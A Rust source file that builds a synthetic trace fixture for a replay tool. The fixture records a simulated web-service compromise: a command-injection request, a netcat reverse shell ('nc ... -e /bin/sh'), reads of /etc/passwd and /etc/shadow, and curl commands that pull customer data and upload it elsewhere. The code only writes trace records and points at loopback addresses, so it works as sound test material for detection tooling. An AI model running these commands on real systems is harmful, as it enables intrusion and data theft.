//! Synthetic scenarios written with `TraceBuilder`. They stand in for recorded traces
//! until the recorder exists, and stay as deterministic regression inputs afterwards:
//! the same code writes the same bytes, which a test checks against `fixtures/synthetic/`.

use rewind_schema::builder::TraceBuilder;
use rewind_schema::wire::{self, Sock};
use rewind_schema::writer::Rotation;
use rewind_schema::{EventKind, TraceError};
use std::net::SocketAddr;
use std::path::{Path, PathBuf};

const MS: u64 = 1_000_000;
const S: u64 = 1_000 * MS;

fn addr(s: &str) -> SocketAddr {
    s.parse()
        .unwrap_or_else(|_| SocketAddr::from(([127, 0, 0, 1], 0)))
}

/// A web service is compromised: a reverse shell to a loopback listener, discovery,
/// a read of /etc/shadow, data pulled from an internal service and uploaded elsewhere,
/// with a ring-buffer loss window in the middle. Rotates into two segments.
pub fn reverse_shell(path: &Path) -> Result<Vec<PathBuf>, TraceError> {
    let mut b = TraceBuilder::new(path)
        .rotation(Rotation {
            max_records: Some(25),
            ..Default::default()
        })
        .existing(1, 0, "/sbin/init", &["/sbin/init"], 0)
        .existing(
            410,
            1,
            "/usr/sbin/webapp",
            &["/usr/sbin/webapp", "--port", "8080"],
            33,
        )
        .create()?;
    let t0 = b.start_ns() + S;
    let web = addr("127.0.0.1:8080");
    let client = addr("127.0.0.1:51200");
    // A request arrives at the service.
    b.accept(t0, 410, 7001, web, client)?;
    let mut s = wire::Snippet {
        sock: Sock::tcp(7001, web, client),
        total_len: 61,
        flags: wire::net::SNIPPET_INBOUND,
        data: wire::Payload::from(
            "GET /cgi?cmd=sh%20-c%20nc HTTP/1.1\r\nHost: 127.0.0.1:8080\r\n\r\n",
        ),
    };
    s.total_len = s.data.0.len() as u32;
    b.event(t0 + MS, 410, EventKind::Snippet(s))?;
    // The service spawns a helper, which becomes a shell, which runs nc.
    b.fork(t0 + 3 * MS, 410, 4242)?;
    b.exec(
        t0 + 4 * MS,
        4242,
        410,
        "/bin/sh",
        &["sh", "-c", "nc 127.0.0.1 4444 -e /bin/sh"],
    )?;
    b.fork(t0 + 5 * MS, 4242, 4243)?;
    b.exec(
        t0 + 6 * MS,
        4243,
        4242,
        "/usr/bin/nc",
        &["nc", "127.0.0.1", "4444", "-e", "/bin/sh"],
    )?;
    let nc_local = addr("127.0.0.1:40112");
    let c2 = addr("127.0.0.1:4444");
    b.connect(t0 + 7 * MS, 4243, 7002, nc_local, c2, 0)?;
    b.fork(t0 + 8 * MS, 4243, 4244)?;
    b.exec(t0 + 9 * MS, 4244, 4243, "/bin/sh", &["/bin/sh"])?;
    // Discovery, minutes later.
    let t1 = t0 + 120 * S;
    for (i, (exe, argv)) in [
        ("/usr/bin/id", vec!["id"]),
        ("/bin/uname", vec!["uname", "-a"]),
        ("/bin/cat", vec!["cat", "/etc/passwd"]),
        ("/bin/cat", vec!["cat", "/etc/shadow"]),
    ]
    .into_iter()
    .enumerate()
    {
        let t = t1 + i as u64 * 2 * S;
        let pid = 4250 + i as u32;
        b.fork(t, 4244, pid)?;
        b.exec(t + MS, pid, 4244, exe, &argv)?;
        if let Some(file) = argv.get(1).filter(|a| a.starts_with('/')) {
            let ret = if file.ends_with("shadow") { -13 } else { 3 };
            b.open(t + 2 * MS, pid, file, 0, ret)?;
        }
        b.exit(t + 3 * MS, pid, if i == 3 { 1 } else { 0 })?;
    }
    // The kernel could not keep up for a moment.
    b.loss(t1 + 9 * S, 1, 17, t1 + 8 * S, t1 + 9 * S)?;
    // Lateral movement: pull from an internal service, upload elsewhere.
    let t2 = t1 + 30 * S;
    b.fork(t2, 4244, 4260)?;
    b.exec(
        t2 + MS,
        4260,
        4244,
        "/usr/bin/curl",
        &["curl", "-s", "http://127.0.0.1:9200/customers/_search"],
    )?;
    let l1 = addr("127.0.0.1:40200");
    let internal = addr("127.0.0.1:9200");
    b.connect(t2 + 2 * MS, 4260, 7003, l1, internal, 0)?;
    b.close(t2 + 40 * MS, 4260, 7003, l1, internal, 96, 48_213, 38 * MS)?;
    b.open(t2 + 41 * MS, 4260, "/tmp/.x/customers.json", 0o1101, 3)?;
    b.exit(t2 + 42 * MS, 4260, 0)?;
    b.fork(t2 + 5 * S, 4244, 4261)?;
    b.exec(
        t2 + 5 * S + MS,
        4261,
        4244,
        "/usr/bin/curl",
        &[
            "curl",
            "-T",
            "/tmp/.x/customers.json",
            "http://127.0.0.1:8443/up",
        ],
    )?;
    let l2 = addr("127.0.0.1:40300");
    let exfil = addr("127.0.0.1:8443");
    b.connect(t2 + 5 * S + 2 * MS, 4261, 7004, l2, exfil, 0)?;
    b.close(
        t2 + 5 * S + 90 * MS,
        4261,
        7004,
        l2,
        exfil,
        48_400,
        120,
        88 * MS,
    )?;
    b.exit(t2 + 5 * S + 91 * MS, 4261, 0)?;
    // The shell goes away.
    b.close(t2 + 60 * S, 4243, 7002, nc_local, c2, 812, 2_310, 212 * S)?;
    b.exit(t2 + 60 * S + MS, 4244, 0)?;
    b.exit(t2 + 60 * S + 2 * MS, 4243, 0)?;
    b.exit(t2 + 60 * S + 3 * MS, 4242, 0)?;
    b.finish()
}

/// Every synthetic fixture: (file name, generator).
#[allow(clippy::type_complexity)]
pub const ALL: &[(&str, fn(&Path) -> Result<Vec<PathBuf>, TraceError>)] =
    &[("reverse-shell.zst", reverse_shell)];
